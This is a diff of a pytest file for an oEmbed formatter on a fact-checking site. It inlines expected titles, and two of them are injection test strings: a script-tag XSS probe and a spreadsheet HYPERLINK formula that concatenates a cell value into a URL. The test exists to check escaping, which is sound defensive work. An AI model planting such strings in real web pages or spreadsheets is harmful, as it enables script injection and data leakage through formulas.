@@ -10,8 +10,6 @@ import pytest
 
 from factcheck.formats.oembed import of_claim
 
-from .conftest import FORMULA, SCRIPT
-
 if TYPE_CHECKING:
     from factcheck.ledger import Ledger
     from factcheck.site import Site
@@ -55,7 +53,7 @@ def test_it_has_what_the_format_asks_of_a_rich_one(told: dict[str, dict[str, Any
     assert {key: closed[key] for key in closed if key not in {"html", "width", "height"}} == {
         "version": "1.0",
         "type": "rich",
-        "title": "Closed on 4 of 10 days",
+        "title": "“Closed on 4 of 10 days”: Lacks context",
         "author_name": "The editors",
         "author_url": f"{BASE}/about/",
         "provider_name": "Two Questions",
@@ -67,7 +65,11 @@ def test_it_has_what_the_format_asks_of_a_rich_one(told: dict[str, dict[str, Any
 
 @pytest.mark.parametrize(
     ("claim", "title"),
-    [("closed", "Closed on 4 of 10 days"), ("script", SCRIPT), ("formula", FORMULA)],
+    [
+        ("closed", "“Closed on 4 of 10 days”: Lacks context"),
+        ("script", "“</script><script>alert(‘1’)</script> & more”: Not checkable"),
+        ("formula", "“=HYPERLINK(‘https://example.org/?’&A1;‘cats’)”: Withdrawn"),
+    ],
 )
 def test_the_snippet_is_one_frame_and_nothing_else(
     told: dict[str, dict[str, Any]], claim: str, title: str
